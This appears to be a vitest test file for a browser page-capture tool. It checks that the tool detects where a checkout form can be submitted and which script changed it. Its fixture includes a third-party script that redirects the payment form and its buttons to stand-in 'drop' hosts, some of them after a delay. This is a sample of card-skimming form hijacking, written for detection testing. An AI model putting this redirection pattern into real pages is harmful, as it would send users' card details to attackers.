import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { CaptureBundle, RunningBrowser } from '#index.ts'
import { capture, page, type Site, serve, startBrowser } from './fixture.ts'

let browser: RunningBrowser
let site: Site
let bundle: CaptureBundle

beforeAll(async () => {
  site = await serve({
    '/': page(
      `<h1>Checkout</h1><form id="f" action="/pay" method="post"><label>Card number <input name="cardnumber"></label>
<button formaction="http://take.localhost:PORT/served">Pay</button><button id="property">Pay</button><input type="submit" id="attribute"><input type="image" id="late" formaction="/own">
<button type="button" formaction="http://take.localhost:PORT/none">Help</button><button type="reset" formaction="http://take.localhost:PORT/none">Reset</button><button>Plain</button></form>
<form id="g" action="/search"><input name="q"></form><button form="f" formaction="/outside">Pay by transfer</button><script src="http://third.localhost:PORT/third.js"></script>`,
    ),
    '/third.js': `const at = (id) => document.getElementById(id)
at('property').formAction = 'http://drop.localhost:PORT/by-property'
at('attribute').setAttribute('formAction', 'http://drop2.localhost:PORT/by-attribute')
at('g').action = 'http://drop3.localhost:PORT/by-action'
at('f').insertAdjacentHTML('beforeend', '<button formaction="http://drop4.localhost:PORT/by-markup">Pay</button>')
setTimeout(() => { at('late').formAction = 'http://drop5.localhost:PORT/later' }, 12000)`,
  })
  browser = await startBrowser()
  bundle = await capture(browser, site.url('/'))
})
afterAll(async () => {
  await browser?.close()
  await site?.close()
})

const third = () => bundle.capture.scripts.find(({ url }) => url === site.url('/third.js', 'third.localhost'))

describe('where a form can be sent', () => {
  it('is known of each submit button with an address of its own, first and later: served, set by property or attribute, written as markup', () => {
    const [form, search] = bundle.capture.forms
    expect(form).toMatchObject({ action: site.url('/pay'), actionLater: null })
    expect(form?.buttons?.map(({ action, actionLater, initiators }) => [action, actionLater, initiators[0]?.scriptId ?? null])).toEqual([
      [site.url('/served', 'take.localhost'), null, null],
      [site.url('/by-property', 'drop.localhost'), null, null],
      [site.url('/by-attribute', 'drop2.localhost'), null, null],
      [site.url('/own'), site.url('/later', 'drop5.localhost'), null],
      [site.url('/by-markup', 'drop4.localhost'), null, third()?.id],
      [site.url('/outside'), null, null],
    ])
    expect(search?.buttons).toEqual([])
  })

  it('is put down to the script that set it, while the page loaded as well as later', () => {
    const changes = bundle.capture.behaviours.filter(({ kind, scriptId }) => kind === 'changes-form-action' && scriptId === third()?.id)
    const host = (name: string) => `${name}.localhost:${site.port}`
    expect(changes.map(({ target }) => target).sort()).toEqual(['drop', 'drop2', 'drop3', 'drop5'].map(host))
  })
})
